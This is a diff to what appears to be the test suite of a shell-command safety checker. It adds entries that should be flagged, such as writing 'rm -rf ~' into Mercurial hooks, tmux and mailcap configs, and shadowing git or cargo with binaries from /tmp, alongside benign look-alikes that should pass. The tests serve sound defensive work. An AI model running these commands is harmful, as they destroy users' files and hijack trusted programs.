@@ -214,6 +214,10 @@ _CONFIG_BLOCKED = [
     ("neomutt -e 'set sendmail=\"rm -rf /\"'", "bash"),
     ("exim4 -be '${run{/bin/rm -rf ~}}'", "bash"),
     ('Add-Content $HOME\\.gitconfig "[core]`n`tpager = rm -rf ~"', "powershell"),
+    ("printf '[hooks]\\npre-commit = rm -rf ~\\n' >> ~/.hgrc", "bash"),
+    ("printf '[alias]\\nnuke = !rm -rf /\\n' > .hg/hgrc", "bash"),
+    ("echo 'run-shell \"rm -rf ~\"' >> ~/.tmux.conf", "bash"),
+    ("echo 'text/plain; rm -rf ~' | tee -a ~/.mailcap", "bash"),
 ]
 
 
@@ -256,6 +260,9 @@ _CONFIG_NOT_RAISED = [
     ("grep -n 'pager = rm -rf' ~/.gitconfig", S),
     ("echo 'data = @/home/me/.ssh/id_rsa'", S),
     ("gpg --list-keys", S),
+    ("printf '[hooks]\\nprecommit.lint = python:hooks.lint\\n' >> ~/.hgrc", M),
+    ("echo 'set -g mouse on' >> ~/.tmux.conf", M),
+    ("echo 'text/html; lynx -dump %s; copiousoutput' >> ~/.mailcap", M),
 ]
 
 
@@ -291,6 +298,8 @@ _WHERE_CRITICAL = [
     "cp ./payload /usr/local/bin/ls",
     "sudo install -m 0755 x /usr/local/sbin/sudo",
     "ln -sf /tmp/e ~/.local/bin/python3",
+    "ln -s /tmp/e /usr/local/bin/git",
+    "install -D x ~/.cargo/bin/cargo",
     "mv helper ~/bin/ssh",
     "curl -o ~/.local/bin/git https://x.example/g",
     "hash -p /tmp/x ls",
@@ -315,6 +324,8 @@ _WHERE_NOT_RAISED = [
     ("cp build/mytool ~/.local/bin/mytool", M),
     ("cp target/release/fd /usr/local/bin/fd-find", M),
     ("hash -p /usr/bin/python3 python", S),
+    ("ln -s /usr/bin/python3.12 ~/.local/bin/python3", M),
+    ("ln -s ~/dotfiles/bin/mytool ~/bin/mytool", M),
     ("hash -r", S),
     ("export PATH=$HOME/.cargo/bin:$PATH", M),
     ("echo /usr/local/bin/sudo", S),
